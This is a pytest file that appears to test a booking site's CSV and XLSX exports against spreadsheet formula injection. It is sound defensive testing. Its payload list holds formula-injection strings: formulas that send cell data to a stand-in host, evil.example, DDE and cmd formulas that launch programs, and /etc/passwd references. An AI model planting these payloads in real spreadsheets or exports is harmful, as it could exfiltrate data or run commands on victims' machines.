"""Sixty ways to make a spreadsheet run something, in three columns of both formats: none is live.

Where LibreOffice is installed it opens both files; whether it is there or not, what stands in them is looked at.
"""

import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from zipfile import ZipFile

import pytest

from booking.tests.exported import csv_rows, file_of, sheet_of
from booking.tests.factories import core_answers, sealed_request, store
from clinic_site.tests.fixtures import TestVault

from .expected import FORMULAS, NOW, Export

pytestmark = pytest.mark.once

COLUMNS = ("name", "phone", "message")
# Functions that reach out, and what other programs take for links.
CALLS = [
    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTDATA("https://evil.example")',
    '=IMPORTHTML("https://evil.example","table",1)',
    '=IMAGE("https://evil.example/x.png")',
    "=cmd|' /C calc'!'A1'",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=DDE("soffice","/etc/passwd","x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=INDIRECT(A1)",
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    '=CONCATENATE("=1","+1")',
    "=1+1\n=2+2",
    "{=1+1}",
    "of:=1+1",
    "https://evil.example",
    "mailto:eve@evil.example",
    "file:///etc/passwd",
]
HEADS = ["", " ", "\t", "\n", "\r", "\u00a0", "\u200b", "\ufeff", "'", '"']
BODIES = ["=1+1", "+1+1"]
PAYLOADS = [*FORMULAS, *CALLS, *(f"{head}{body}" for head in HEADS for body in BODIES)]


def test_there_are_sixty() -> None:
    assert len(PAYLOADS) == 60


@pytest.fixture
def hostile(export: Export, site: SimpleNamespace, vault: TestVault) -> Export:
    """Every payload as name, phone number and message of a request."""
    store(
        sealed_request(
            site.book,
            site.location,
            core_answers(**dict.fromkeys(COLUMNS, payload)),
            received_at=NOW - timedelta(minutes=minutes),
        )
        for minutes, payload in enumerate(PAYLOADS)
    )
    return export


def columns() -> list[str]:
    return [f"answer.{key}" for key in COLUMNS]


def test_no_cell_of_the_files_could_be_run(hostile: Export) -> None:
    cells = [cell for row in csv_rows(hostile("csv", columns=columns()))[1:-1] for cell in row]
    assert len(cells) == 60 * 5
    assert [cell for cell in cells if re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell)] == []
    rows = list(sheet_of(file_of(hostile("xlsx", columns=columns()))).iter_rows(min_row=2))
    assert len(rows) == 61
    found = [cell for row in rows for cell in row if cell.value is not None]
    assert {(cell.data_type, cell.number_format, cell.quotePrefix) for cell in found} == {
        ("s", "@", True)
    }


SOFFICE = shutil.which("soffice")
NAMES = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}


def opened_by_libreoffice(content: bytes, name: str, folder: Path) -> ET.Element:
    """What LibreOffice makes of a file, as its own format tells it."""
    (folder / name).write_bytes(content)
    command = [
        *(SOFFICE, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore"),
        *("--convert-to", "ods", "--outdir", str(folder), str(folder / name)),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)  # type: ignore[arg-type]
    with ZipFile((folder / name).with_suffix(".ods")) as archive:
        return ET.fromstring(archive.read("content.xml"))


def live(document: ET.Element) -> list[str]:
    """Cells that hold a formula, a link, a number or another thing than text."""
    found = []
    for cell in document.iter(f"{{{NAMES['table']}}}table-cell"):
        kind = cell.get(f"{{{NAMES['office']}}}value-type")
        formula = cell.get(f"{{{NAMES['table']}}}formula")
        links = list(cell.iter(f"{{{NAMES['text']}}}a"))
        if formula or links or kind not in {None, "string"}:
            found.append(formula or kind or "link")
    return found


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not installed")
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_libreoffice_finds_nothing_to_run(
    hostile: Export, tmp_path: Path, file_format: str
) -> None:
    content = file_of(hostile(file_format, columns=columns()))
    document = opened_by_libreoffice(content, f"requests.{file_format}", tmp_path)
    # Three cells side by side that are alike are one with a number to it.
    told = sum(payload.count("evil.example") for payload in PAYLOADS)
    assert "".join(document.itertext()).count("evil.example") == told
    assert live(document) == []


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not installed")
def test_the_look_for_live_cells_bites(tmp_path: Path) -> None:
    document = opened_by_libreoffice(b"=1+1,5,text\r\n", "wrong.csv", tmp_path)
    assert len(live(document)) == 2
